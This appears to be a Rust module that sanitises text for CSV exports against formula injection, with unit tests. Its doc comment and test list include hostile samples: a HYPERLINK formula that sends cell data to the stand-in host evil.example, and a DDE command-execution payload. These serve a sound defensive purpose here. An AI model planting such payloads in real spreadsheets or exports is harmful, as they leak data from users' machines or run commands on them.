//! Text bound for a spreadsheet (CSV opened in Excel or WPS): cells that would start a formula
//! are defused.
//!
//! Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (and, after a
//! leading tab or carriage return, the same) as a formula, so a target or task named
//! `=HYPERLINK("http://evil.example/?x="&A1,"点击")` would leak or run something on the
//! agency's machine when it opens an export. Such a cell gets a leading apostrophe, which the
//! spreadsheet shows as text and hides (OWASP's advice for CSV injection). The full-width
//! forms (＝ ＋ － ＠) are treated alike, since input methods produce them and some spreadsheet
//! versions normalise them.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// `text` as a cell that no spreadsheet takes for a formula.
pub fn cell(text: &str) -> Cow<'_, str> {
    let first = text
        .trim_start_matches(['\t', '\r', '\n', ' '])
        .chars()
        .next();
    let starts_formula =
        first.is_some_and(|c| FORMULA_STARTS.contains(&c)) || text.starts_with(['\t', '\r']);
    if starts_formula {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn formula_starts_get_an_apostrophe_and_plain_text_is_kept() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1+1)",
            "  =1+1",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ] {
            assert_eq!(cell(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in [
            "杭州某某餐饮有限公司",
            "91330100MA2B000001",
            "2026-11-20",
            "12.50%",
            "",
        ] {
            assert_eq!(cell(plain), plain);
        }
    }
}
